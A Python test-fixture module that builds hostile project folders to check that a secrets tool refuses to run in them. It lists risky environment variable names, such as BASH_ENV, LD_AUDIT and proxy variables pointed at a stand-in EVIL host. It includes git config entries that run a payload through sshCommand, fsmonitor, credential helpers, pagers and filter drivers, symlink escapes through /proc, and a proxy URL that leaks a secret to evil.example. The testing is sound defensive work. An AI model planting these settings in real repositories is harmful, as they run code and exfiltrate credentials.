"""More hostile repositories, by the kinds of what got through once: names, links, journals, git, changes after trust.

They meet the commands that a shell or a person runs unasked; at night every one.
"""

from __future__ import annotations

import sqlite3

from tests.faults.repositories import (
    EVIL,
    PAYLOAD,
    config,
    environment,
    index_of,
    project,
    staged_entry,
    store,
    vault_beside,
    write,
)

# As in `repositories`; and those that somebody trusted before they changed: name -> (builder, change).
REFUSED, UNREADABLE, QUIET, CHANGED = {}, {}, {}, {}


def stopped(build):
    REFUSED[build.__name__] = build
    return build


def harmless(build):
    QUIET[build.__name__] = build
    return build


# Each of them ran code, moved a credential or redirected a connection (SEC-A1, A2, B1), or may by its owner's manual.
RISKY = {
    "./payload": "PS0 PS2 PS4 PROMPT READNULLCMD NULLCMD MAILPATH MODULE_PATH FPATH fish_user_paths fish_function_path "
    "INPUTRC HISTSIZE BASH_LOADABLES_PATH STARSHIP_CONFIG FZF_DEFAULT_OPTS FZF_DEFAULT_COMMAND RIPGREP_CONFIG_PATH "
    "PSModulePath LESS LESSOPEN PAGER MANPAGER GIT_PAGER GIT_EXTERNAL_DIFF GIT_CONFIG_GLOBAL GIT_ASKPASS SSH_ASKPASS "
    "VISUAL MAKEFLAGS MAKEFILES TAR_OPTIONS RSYNC_RSH VIMINIT LUA_INIT NODE_PATH PERL5OPT PERL5LIB RUBYOPT RUBYLIB "
    "PYTHONSTARTUP PYTHONHOME JAVA_TOOL_OPTIONS _JAVA_OPTIONS CLASSPATH RUSTC RUSTC_WRAPPER GEM_HOME CC GOFLAGS "
    "npm_config_script_shell NPM_CONFIG_NODE_OPTIONS PIP_INDEX_URL OPENSSL_MODULES OPENSSL_ENGINES LD_AUDIT "
    "LD_LIBRARY_PATH DYLD_INSERT_LIBRARIES GCONV_PATH LOCPATH GLIBC_TUNABLES HOSTALIASES NIX_CONFIG NIX_PATH "
    "DIRENV_CONFIG FLOX_CONFIG_DIR XDG_CONFIG_HOME XDG_DATA_HOME TF_CLI_CONFIG_FILE ANSIBLE_CONFIG DOCKER_CONFIG "
    "SSLKEYLOGFILE NETRC CURL_HOME VAULT_CONFIG_PATH VAULT_CAPATH OCI_CLI_RC_FILE AWS_DATA_PATH AWS_CONFIG_FILE "
    "DOPPLER_VERIFY_TLS GNUPGHOME PASSWORD_STORE_EXTENSIONS_DIR",
    f"https://{EVIL}": "ALL_PROXY https_proxy VAULT_HTTP_PROXY DOCKER_HOST AWS_ENDPOINT_URL BAO_ADDR OP_CONNECT_HOST",
}


def _setting(name, value):
    def build(place, outside):
        project(place, text=f"{name}={value}\n")
        write(place, "payload", PAYLOAD, 0o755)

    build.__name__ = f"more_that_sets_{name}"
    return build


for _value, _names in RISKY.items():
    for _name in _names.split():
        stopped(_setting(_name, _value))

# The same name in every way that a file may set it.
SPELLINGS = {
    "exported": "export BASH_ENV=./payload\n",
    "quoted": "BASH_ENV='./payload'\n",
    "twice": "BASH_ENV=\nBASH_ENV=./payload\n",
    "with_a_secret": "BASH_ENV=ref://secrets/a\n",
    "through_another": "WHERE=./payload\nBASH_ENV=$WHERE\n",
    "with_blanks": "  BASH_ENV = ./payload\n",
    "after_a_mark": "\ufeffBASH_ENV=./payload\n",
    "with_carriage_returns": "BASH_ENV=./payload\r\n",
}


def _spelled(kind, text):
    def build(place, outside):
        config(place)
        write(place, ".env", f"{text}A=ref://secrets/a\n")
        write(place, "payload", PAYLOAD, 0o755)

    build.__name__ = f"a_risky_name_{kind}"
    return build


for _kind, _text in SPELLINGS.items():
    stopped(_spelled(_kind, _text))


@stopped
def a_risky_name_in_the_personal_file(place, outside):
    project(place)
    write(place, ".env.local", "BASH_ENV=./payload\n")


@stopped
def a_risky_name_in_the_active_profile(place, outside):
    project(place, active_profile="p", profiles={"p": {"env_file": "conf/p.env"}})
    write(place, "conf/p.env", "BASH_ENV=./payload\n")


# links


@stopped
def an_env_file_through_two_links(place, outside):
    config(place)
    (place / "second").symlink_to(outside)
    (place / ".env").symlink_to("second/private.env")


@stopped
def an_env_file_through_proc(place, outside):
    config(place)
    (place / ".env").symlink_to(f"/proc/self/root{outside}/private.env")


@stopped
def a_profile_s_file_through_a_link(place, outside):
    project(place, active_profile="p", profiles={"p": None})
    (place / ".env.p").symlink_to(outside / "private.env")


@stopped
def a_plugin_through_a_link_inside(place, outside):
    project(place, store("plugin", command="./tool"))
    write(place, "real", PAYLOAD, 0o755)
    (place / "tool").symlink_to("real")


@stopped
def a_plugin_through_a_link_to_the_outside(place, outside):
    project(place, store("plugin", command="./tool"))
    (place / "tool").symlink_to(outside / "kv")


@stopped
def a_program_through_a_linked_folder_on_path(place, outside):
    project(place, store("1password"))
    write(place, "real/op", PAYLOAD, 0o755)
    (place / "onpath").symlink_to("real")


@stopped
def a_vault_through_two_links(place, outside):
    (place / "a").symlink_to("b")
    (place / "b").symlink_to(outside)
    project(place, store("vault", path="a/private.db"))


@stopped
def a_vault_through_proc(place, outside):
    project(place, store("vault", path=f"/proc/self/root{outside}/private.db"))


@stopped
def a_config_that_is_a_loop(place, outside):
    environment(place)
    (place / ".envref.yaml").symlink_to(".envref.yaml")


@stopped
def a_config_that_is_a_folder(place, outside):
    environment(place)
    (place / ".envref.yaml").mkdir()


# below the root of a repository


@stopped
def a_plugin_of_the_repository_above(place, outside):
    """As the place itself is the project: the repository's root is the project's, and the plugin in a submodule."""
    (place / ".git").mkdir()
    write(place, "sub/.git", "gitdir: ../.git/modules/sub\n")
    write(place, "sub/kv", PAYLOAD, 0o755)
    project(place, store("plugin", command="sub/kv"))


@stopped
def a_program_that_git_hides(place, outside):
    (place / ".git").mkdir()
    write(place, ".git/op", PAYLOAD, 0o755)
    project(place, store("1password", command="./.git/op"))


@stopped
def a_program_with_dots_in_its_path(place, outside):
    write(place, "op", PAYLOAD, 0o755)
    project(place, store("1password", command=f"/usr/bin/../../{str(place).lstrip('/')}/op"))


@stopped
def a_program_with_two_slashes(place, outside):
    write(place, "op", PAYLOAD, 0o755)
    project(place, store("1password", command=f"/{place}/op"))


# vaults


def _with_companion(suffix):
    def build(place, outside):
        vault_beside(place, outside, suffix)

    build.__name__ = f"a_vault_with_a_companion_{suffix.lstrip('-')}"
    return build


for _suffix in ("-wal", "-shm"):
    harmless(_with_companion(_suffix))


@harmless
def a_vault_whose_journal_is_a_link(place, outside):
    project(place, store("vault", path="v.db"))
    sqlite3.connect(place / "v.db").executescript("CREATE TABLE metadata(key, value)").close()
    (place / "v.db").chmod(0o600)
    (place / "v.db-journal").symlink_to(outside / "private.env")


@harmless
def a_vault_in_a_folder_of_the_repository(place, outside):
    project(place, store("vault", path="data/../data/v.db"))
    write(place, "data/v.db", "SQLite format 3\0", 0o600)


@harmless
def a_vault_of_another_program(place, outside):
    project(place, store("vault", path="v.db"))
    sqlite3.connect(place / "v.db").executescript("CREATE VIEW secrets AS SELECT hex(zeroblob(1e9)) AS key").close()
    (place / "v.db").chmod(0o600)


@harmless
def an_old_vault_that_costs_everything(place, outside):
    """Format 1, whose files name their own cost: 2^30."""
    project(place, store("vault", path="v.db"))
    connection = sqlite3.connect(place / "v.db")
    connection.executescript("CREATE TABLE metadata(key, value); CREATE TABLE secrets(key, value)")
    header = "age-encryption.org/v1\n-> scrypt " + "A" * 22 + " 30\n"
    connection.execute("INSERT INTO metadata VALUES ('__envref_verify__', ?)", (header,))
    connection.commit()
    connection.close()
    (place / "v.db").chmod(0o600)


# git


def _git(kind, settings, *, bare, attributes=""):
    def build(place, outside):
        project(place, store("hashicorp-vault", addr="http://127.0.0.1:9", token="t"))
        payload = write(place, "payload", PAYLOAD, 0o755)
        folder = place if bare else place / ".git"
        write(folder, "HEAD", "ref: refs/heads/main\n")
        tree = "bare=false\nworktree=.\n" if bare else ""
        write(folder, "config", f"[core]\nrepositoryformatversion=1\n{tree}" + settings.format(payload=payload))
        for name in ("objects", "refs/heads"):
            (folder / name).mkdir(parents=True)
        (folder / "index").write_bytes(index_of(staged_entry(".env"), staged_entry(".envref.yaml")))
        if attributes:
            write(place, ".gitattributes", attributes)

    build.__name__ = f"git_{kind}_" + ("in_a_buried_bare_repository" if bare else "of_the_repository")
    return build


_PROMISOR = '[extensions]\npartialClone=origin\n[remote "origin"]\npromisor=true\n'
SETTINGS = {
    "sshCommand": f"sshCommand={{payload}}\n{_PROMISOR}url=ssh://nowhere.invalid/x\n",
    "gitProxy": f"gitProxy={{payload}}\n{_PROMISOR}url=git://nowhere.invalid/x\n",
    "ext": f'{_PROMISOR}url=ext::{{payload}}\n[protocol "ext"]\nallow=always\n',
    "uploadpack": f'{_PROMISOR}url=.\nuploadpack={{payload}}\n[protocol "file"]\nallow=always\n',
    "credential": f"{_PROMISOR}url=https://{EVIL}/x\n[credential]\nhelper=!{{payload}}\n",
    "fsmonitor": "fsmonitor={payload}\n",
    "hooks": "hooksPath=.\n",
    "alternateRefs": "alternateRefsCommand={payload}\n",
    "pager": "pager={payload}\n[pager]\nls-files=true\ndiff=true\nshow=true\n",
    "alias": "[alias]\nls-files=!{payload}\ndiff=!{payload}\n",
    "include": "[include]\npath=../outside/private.env\n",
}
for _kind, _text in SETTINGS.items():
    harmless(_git(_kind, _text, bare=True))
    if _kind in ("sshCommand", "fsmonitor", "pager"):
        harmless(_git(_kind, _text, bare=False))
for _kind, _text in {"textconv": "textconv", "filter": "smudge", "clean": "clean"}.items():
    _driver = "diff" if _kind == "textconv" else "filter"
    _body = f'[{_driver} "evil"]\n{_text}={{payload}}\nrequired=true\n'
    harmless(_git(_kind, _body, bare=False, attributes=f"* {_driver}=evil\n"))


@harmless
def a_git_file_that_leads_away(place, outside):
    project(place, store("hashicorp-vault", addr="http://127.0.0.1:9", token="t"))
    write(outside, "elsewhere/config", f"[core]\nfsmonitor={write(place, 'payload', PAYLOAD, 0o755)}\n")
    write(place, ".git", f"gitdir: {outside}/elsewhere\n")


# addresses and options of plugins


@stopped
def a_plugin_on_path_that_gets_an_address(place, outside):
    project(place, store("plugin", url=f"https://{EVIL}"))


@stopped
def a_plugin_that_gets_an_address_by_another_name(place, outside):
    project(place, store("plugin", backend_endpoint=EVIL))


@stopped
def an_address_with_the_token_file_only(place, outside):
    project(place, store("hashicorp-vault", addr=f"https://{EVIL}", mount="kv"))


@stopped
def an_address_with_an_empty_token(place, outside):
    project(place, store("hashicorp-vault", addr=f"https://{EVIL}", token=""))


# What somebody agreed to, and the merge request after it. Each starts from what asks for something.


def _changed(name, first, *changes):
    CHANGED[name] = (first, lambda place, outside: [change(place, outside) for change in changes])


def _env(text):
    return lambda place, outside: environment(place, text)


def _file(name, text, mode=0o644):
    return lambda place, outside: write(place, name, text, mode)


def _project(*backends, text="", **fields):
    return lambda place, outside: project(place, *backends, text=text, **fields)


def _agreed(place, outside):
    """A plugin of the project's own, a risky name, an address, and a proxy whose host another name says."""
    project(place, store("plugin", command="./kv"), text=_SAME)
    write(place, "kv", "#!/bin/sh\nexit 1\n", 0o755)
    write(place, "good", "")


_SAME = "BASH_ENV=./good\nVAULT_ADDR=https://good.example\nHTTPS_PROXY=http://${PROXY_HOST}\nPROXY_HOST=good.example\n"
_changed("the_value_of_a_risky_name", _agreed, _env(_SAME.replace("./good", "./payload")))
_changed("an_address_in_an_env_file", _agreed, _env(_SAME.replace("https://good", "https://evil")))
_changed("what_a_proxy_interpolates", _agreed, _env(_SAME.replace("PROXY_HOST=good", "PROXY_HOST=evil")))
_changed("one_more_risky_name", _agreed, _env(f"{_SAME}PS0=$(./payload)\n"))
_changed("a_secret_in_a_risky_name", _agreed, _env(_SAME.replace("${PROXY_HOST}", "${A}@evil.example")))
_changed("a_foreign_name", _agreed, _env(f"{_SAME}B=ref://s//bank/main\n"))
_changed("the_same_in_a_profile", _agreed, _file(".env.local", "BASH_ENV=./payload\n"))
_changed("the_plugin_s_bytes", _agreed, _file("kv", PAYLOAD, 0o755))
_changed("another_plugin", _agreed, _file("tool", PAYLOAD, 0o755), _project(store("plugin", command="./tool")))
_changed("one_more_store", _agreed, _project(store("plugin", command="./kv"), {"name": "vault"}, text=_SAME))
_changed("the_project_s_name", _agreed, _project(store("plugin", command="./kv"), text=_SAME, project="other"))
_changed(
    "an_option_of_the_plugin", _agreed, _project(store("plugin", command="./kv", url=f"https://{EVIL}"), text=_SAME)
)
_changed(
    "a_team_of_more", _agreed,
    _project(
        store("plugin", command="./kv"), text=_SAME,
        team=[{"name": "eve", "public_key": "age1ql3z7hjy54pw3hyww5ayyfg7zqgvc7w3j2elw8zmrj2kg5sfn9aqmcac8p"}],
    ),
)  # fmt: skip


def _link_plugin(place, outside):
    (place / "kv").unlink()
    (place / "kv").symlink_to(outside / "kv")


def _link_env(place, outside):
    (place / ".env.local").symlink_to(outside / "private.env")


def _program_on_path(place, outside):
    write(place, "onpath/op", PAYLOAD, 0o755)


def _agreed_to_op(place, outside):
    project(place, store("1password"))
    (place / "onpath").mkdir()


def _agreed_plain(place, outside):
    project(place)


_changed("the_plugin_is_a_link_now", _agreed, _link_plugin)
_changed("a_file_is_a_link_now", _agreed, _link_env)
_changed("a_program_came_on_path", _agreed_to_op, _program_on_path)
_changed("a_first_risky_name", _agreed_plain, _env("BASH_ENV=./payload\n"))
_changed("a_first_program", _agreed_plain, _file("kv", PAYLOAD, 0o755), _project(store("plugin", command="./kv")))
_changed("a_first_address", _agreed_plain, _project(store("hashicorp-vault", addr=f"https://{EVIL}")))
_changed("a_first_file_outside", _agreed_plain, _project(env_file="../outside/private.env"))
_changed(
    "a_first_vault_outside",
    _agreed_plain,
    lambda place, outside: project(place, store("vault", path=str(outside / "private.db"))),
)
_changed("a_first_token_in_a_proxy", _agreed_plain, _env(f"HTTPS_PROXY=http://u:${{A}}@{EVIL}\n"))
